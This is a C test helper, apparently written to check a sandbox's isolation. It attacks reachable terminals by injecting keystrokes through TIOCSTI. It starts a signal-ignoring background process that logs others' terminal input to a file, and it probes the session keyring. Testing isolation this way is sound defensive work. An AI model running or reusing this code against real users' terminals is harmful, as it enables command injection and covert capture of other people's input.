/* SPDX-License-Identifier: Apache-2.0 */
/*
 * terminals KIND ARGUMENT: attacks of a process on the terminals that it has or
 * can reach, to get at the input of others.  Test helper.
 *
 * 	push TEXT       TIOCSTI each byte of TEXT into descriptors 0 to 2 and
 * 			the controlling terminal
 * 	steal FILE      in the background: appends its input from those
 * 			to FILE, until it is killed
 * 	add TEXT        adds a key "nsc-test" with TEXT to the session keyring
 * 	read ID         reads the key ID
 *
 * Prints "did N", the number of attacks that worked.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

struct terminals {
	int fds[4];
	int n;
};

static struct terminals find(void)
{
	struct terminals t = { .n = 0 };
	int own = open("/dev/tty", O_RDWR | O_NOCTTY);

	for (int fd = 0; fd < 3; fd++)
		if (isatty(fd))
			t.fds[t.n++] = fd;
	if (own >= 0)
		t.fds[t.n++] = own;
	return t;
}

static int push(const char *text)
{
	struct terminals t = find();
	int did = 0;

	for (int i = 0; i < t.n; i++) {
		int worked = 1;

		for (const char *c = text; *c; c++)
			worked &= ioctl(t.fds[i], TIOCSTI, c) == 0;
		did += worked;
	}
	return did;
}

/* In its own session, without signals: no action of a shell ends it. */
static int steal(const char *file)
{
	struct terminals t = find();
	char buf[256];
	int out = open(file, O_WRONLY | O_CREAT | O_APPEND, 0666);

	if (out < 0 || fork() != 0)
		return out >= 0;
	for (int sig = 1; sig < NSIG; sig++)
		signal(sig, SIG_IGN);
	setsid();
	for (int i = 0; i < t.n; i++)
		fcntl(t.fds[i], F_SETFL, O_NONBLOCK);
	for (;;) {
		for (int i = 0; i < t.n; i++) {
			ssize_t n = read(t.fds[i], buf, sizeof(buf));

			if (n > 0)
				(void)!write(out, buf, (size_t)n);
		}
		usleep(10000);
	}
}

static long key(const char *kind, const char *argument)
{
	char buf[256] = "";
	long n;

	if (!strcmp(kind, "add")) {
		n = syscall(SYS_add_key, "user", "nsc-test", argument,
			    strlen(argument), KEY_SPEC_SESSION_KEYRING);
		printf("key %ld\n", n);
		return n > 0;
	}
	n = syscall(SYS_keyctl, KEYCTL_READ, atol(argument), buf,
		    sizeof(buf) - 1);
	printf("%s\n", n < 0 ? strerror(errno) : buf);
	return n >= 0;
}

int main(int argc, char **argv)
{
	const char *kind = argc > 1 ? argv[1] : "";
	long did = -1;

	if (argc == 3 && !strcmp(kind, "push"))
		did = push(argv[2]);
	else if (argc == 3 && !strcmp(kind, "steal"))
		did = steal(argv[2]);
	else if (argc == 3)
		did = key(kind, argv[2]);
	printf("did %ld\n", did);
	return did < 0 ? 2 : 0;
}
